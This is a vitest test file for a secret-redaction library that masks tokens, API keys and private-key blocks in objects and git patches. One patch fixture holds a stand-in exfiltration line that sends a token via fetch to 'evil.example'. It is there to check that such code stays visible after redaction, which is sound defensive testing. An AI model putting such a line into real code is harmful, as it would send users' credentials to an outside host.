import { describe, expect, it } from "vitest";
import { createRedactor, redactSecrets } from "../../src/llm/redact.js";
import { RedactDeepCycleError, redactDeep, redactPatch } from "../../src/llm/redactDeep.js";

// Token-shaped test values are assembled at run time so the source file itself holds no token shape.
const alnum = (n: number, seed = "aB3") => seed.repeat(Math.ceil(n / seed.length)).slice(0, n);
const ghp = `ghp_${alnum(36)}`;
const ghs = `ghs_${alnum(36, "Zq9")}`;
const openai = `sk-${alnum(48, "Tk4")}`;
const mark = "[REDACTED:private-key]";
const begin = "-----BEGIN RSA PRIVATE KEY-----";
const end = "-----END RSA PRIVATE KEY-----";
const body = "MIIEowIBAAKCAQEA7bq8lZz0example0body0line0one0000000000000000000000";

describe("redactDeep", () => {
  it("redacts every string, keys too, and keeps every other value", () => {
    const input = { title: `leaked ${ghp}`, count: 3, ok: true, none: null, gone: undefined, list: [1, `\t${openai}`, [{ [ghs]: "v" }]] };
    expect(redactDeep(input, redactSecrets)).toEqual({
      title: "leaked [REDACTED:github-token]",
      count: 3,
      ok: true,
      none: null,
      gone: undefined,
      list: [1, "\t[REDACTED:openai-key]", [{ "[REDACTED:github-token]": "v" }]],
    });
  });

  it("returns a copy and leaves the input as it was", () => {
    const input = { nested: { text: ghp }, list: [ghp] };
    const before = structuredClone(input);
    const copy = redactDeep(input, redactSecrets);
    expect(input).toEqual(before);
    expect(copy.nested).not.toBe(input.nested);
    expect(copy.list).not.toBe(input.list);
  });

  it("redacts a BEGIN without END to the end of its own string, and the result still serializes", () => {
    const result = {
      findings: [
        { evidence: `a.pem:1: ${begin}`, severity: "🟡" },
        { evidence: "b.ts:2: fine", severity: "🔴" },
      ],
    };
    const copy = redactDeep(result, redactSecrets);
    expect(copy.findings).toEqual([
      { evidence: `a.pem:1: ${mark}`, severity: "🟡" },
      { evidence: "b.ts:2: fine", severity: "🔴" },
    ]);
    expect(JSON.parse(JSON.stringify(copy))).toEqual(copy);
  });

  it("never merges a BEGIN in one finding with an END in a later one", () => {
    const findings = [
      { id: "F1", severity: "🟡", claim: `quotes ${begin}` },
      { id: "F2", severity: "🔴", claim: "the real problem" },
      { id: "F3", severity: "🟡", claim: `quotes ${end}` },
    ];
    const copy = redactDeep(findings, redactSecrets);
    expect(copy.map((f) => [f.id, f.severity])).toEqual([
      ["F1", "🟡"],
      ["F2", "🔴"],
      ["F3", "🟡"],
    ]);
    expect(copy[1]!.claim).toBe("the real problem");
    expect(copy[2]!.claim).toBe(`quotes ${end}`);
  });

  it("finds a token after a tab that JSON would have escaped", () => {
    const copy = redactDeep({ note: `value:\t${ghp}\n${ghs}` }, redactSecrets);
    expect(JSON.stringify(copy)).not.toContain(ghp);
    expect(JSON.stringify(copy)).not.toContain(ghs);
  });

  it("keeps both entries when two keys redact to the same text", () => {
    const other = `ghp_${alnum(36, "Xy7")}`;
    const copy = redactDeep({ [ghp]: 1, [other]: 2 }, redactSecrets);
    expect(copy).toEqual({ "[REDACTED:github-token]": 1, "[REDACTED:github-token] (2)": 2 });
  });

  it("copies a __proto__ key as data, without touching the prototype", () => {
    const input = JSON.parse(`{"__proto__": {"polluted": "${ghp}"}}`) as Record<string, unknown>;
    const copy = redactDeep(input, redactSecrets);
    expect(Object.getPrototypeOf(copy)).toBe(Object.prototype);
    expect(Object.hasOwn(copy, "__proto__")).toBe(true);
    expect(JSON.stringify(copy)).toBe('{"__proto__":{"polluted":"[REDACTED:github-token]"}}');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("copies a shared reference at each place", () => {
    const shared = { text: ghp };
    const copy = redactDeep({ a: shared, b: [shared] }, redactSecrets);
    expect(copy).toEqual({ a: { text: "[REDACTED:github-token]" }, b: [{ text: "[REDACTED:github-token]" }] });
  });

  it("throws a typed error on a cycle, naming the path with redacted keys", () => {
    const node: Record<string, unknown> = { name: "root" };
    node[ghp] = [node];
    let error: unknown;
    try {
      redactDeep(node, redactSecrets);
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(RedactDeepCycleError);
    expect((error as RedactDeepCycleError).path).toBe('$["[REDACTED:github-token]"][0]');
    expect((error as Error).message).not.toContain(ghp);
  });
});

const patchOf = (...lines: string[]) => lines.join("\n");

describe("redactPatch", () => {
  it("keeps every marker and line, and redacts the content on every kind of line", () => {
    const patch = patchOf(
      `diff --git a/src/${ghp}.ts b/src/${ghp}.ts`,
      "index 1111111..2222222 100644",
      `--- a/src/${ghp}.ts`,
      `+++ b/src/${ghp}.ts`,
      `@@ -1,3 +1,3 @@ function load(t = "${ghs}") {`,
      ` const keep = "${openai}";`,
      `-const old = "${ghs}";`,
      `+const next = "\\t${ghp}";`,
      "\\ No newline at end of file",
      "",
    );
    const out = redactPatch(patch, redactSecrets);
    expect(out.split("\n")).toEqual([
      "diff --git a/src/[REDACTED:github-token].ts b/src/[REDACTED:github-token].ts",
      "index 1111111..2222222 100644",
      "--- a/src/[REDACTED:github-token].ts",
      "+++ b/src/[REDACTED:github-token].ts",
      '@@ -1,3 +1,3 @@ function load(t = "[REDACTED:github-token]") {',
      ' const keep = "[REDACTED:openai-key]";',
      '-const old = "[REDACTED:github-token]";',
      '+const next = "\\t[REDACTED:github-token]";',
      "\\ No newline at end of file",
      "",
    ]);
  });

  it("redacts the run's own token and key in added lines", () => {
    const runToken = "run-token-value-123456";
    const runKey = "run/key+value=7890";
    const patch = patchOf("@@ -0,0 +1,2 @@", `+const a = "${runToken}";`, `+const b = "${encodeURIComponent(runKey)}";`);
    const out = redactPatch(patch, createRedactor([runToken, runKey]));
    expect(out).toBe(patchOf("@@ -0,0 +1,2 @@", '+const a = "[REDACTED:secret]";', '+const b = "[REDACTED:secret]";'));
  });

  it("hides an added key body and shows the code after it", () => {
    const patch = patchOf("@@ -1,1 +1,6 @@", " const a = 1;", `+${begin}`, `+${body}`, `+${end}`, "+run(evil);", "+const b = 2;");
    const out = redactPatch(patch, redactSecrets);
    expect(out).toBe(patchOf("@@ -1,1 +1,6 @@", " const a = 1;", `+${mark}`, `+${mark}`, `+${mark}`, "+run(evil);", "+const b = 2;"));
  });

  it("shows the code after a lone added BEGIN line", () => {
    const patch = patchOf("@@ -0,0 +1,3 @@", `+// ${begin}`, "+fetch('https://evil.example', { body: token });", "+export {};");
    expect(redactPatch(patch, redactSecrets)).toBe(
      patchOf("@@ -0,0 +1,3 @@", `+// ${mark}`, "+fetch('https://evil.example', { body: token });", "+export {};"),
    );
  });

  it("keeps each side's key state apart", () => {
    // The head opens a key; the removed lines in between are base-side code and stay shown.
    const patch = patchOf("@@ -1,2 +1,3 @@", `+${begin}`, "-removed(code);", `+${body}`, `-${body}`, " shared();");
    const out = redactPatch(patch, redactSecrets);
    expect(out).toBe(patchOf("@@ -1,2 +1,3 @@", `+${mark}`, "-removed(code);", `+${mark}`, `-${body}`, " shared();"));
  });

  it("hides a removed key body on the base side", () => {
    const patch = patchOf("@@ -1,4 +1,1 @@", `-${begin}`, `-${body}`, `-${end}`, " after();");
    expect(redactPatch(patch, redactSecrets)).toBe(patchOf("@@ -1,4 +1,1 @@", `-${mark}`, `-${mark}`, `-${mark}`, " after();"));
  });

  it("hides a context line that is key body on either side", () => {
    const headOpens = patchOf("@@ -1,1 +1,2 @@", `+${begin}`, ` ${body}`);
    expect(redactPatch(headOpens, redactSecrets)).toBe(patchOf("@@ -1,1 +1,2 @@", `+${mark}`, ` ${mark}`));
    const baseOpens = patchOf("@@ -1,2 +1,1 @@", `-${begin}`, ` ${body}`);
    expect(redactPatch(baseOpens, redactSecrets)).toBe(patchOf("@@ -1,2 +1,1 @@", `-${mark}`, ` ${mark}`));
  });

  it("reads hunk lines that look like file headers as content, by the hunk's counts", () => {
    // `+++…` here is an added line whose text starts with `++`; as a header it would show the key body.
    const patch = patchOf("@@ -0,0 +1,2 @@", `+${begin}`, `+++${body}`, `--- a/next`, `+++ b/next`);
    expect(redactPatch(patch, redactSecrets)).toBe(patchOf("@@ -0,0 +1,2 @@", `+${mark}`, `+${mark}`, "--- a/next", "+++ b/next"));
  });

  it("starts each file and each hunk afresh", () => {
    const patch = patchOf(
      "diff --git a/a.pem b/a.pem",
      "@@ -0,0 +1,1 @@",
      `+${begin}`,
      "diff --git a/b.ts b/b.ts",
      "@@ -0,0 +1,1 @@",
      "+QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo",
    );
    const out = redactPatch(patch, redactSecrets).split("\n");
    expect(out[2]).toBe(`+${mark}`);
    expect(out[5]).toBe("+QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo");
  });

  it("keeps the line count of any text, a patch or not", () => {
    for (const text of ["", "\n", "no patch at all\n\n", patchOf("@@ -1 +1 @@", "-a", "+b", ""), `@@@ -1 -1 +1 @@@\n++${ghp}\n`]) {
      const out = redactPatch(text, redactSecrets);
      expect(out.split("\n")).toHaveLength(text.split("\n").length);
      expect(out).not.toContain(ghp);
    }
  });

  it("handles a 2 MB patch of near misses after an added BEGIN line", () => {
    // Correctness only; run locally, this takes well under a second.
    const near = `+${" ".repeat(40)}"${"QUJD".repeat(10)}" + x(`;
    const lines = Array.from({ length: 2_000_000 / near.length }, () => near);
    const patch = patchOf(`@@ -0,0 +1,${lines.length + 1} @@`, `+${begin}`, ...lines);
    const out = redactPatch(patch, redactSecrets).split("\n");
    expect(out[1]).toBe(`+${mark}`);
    expect(out.slice(2).every((line) => line === near)).toBe(true);
  });
});
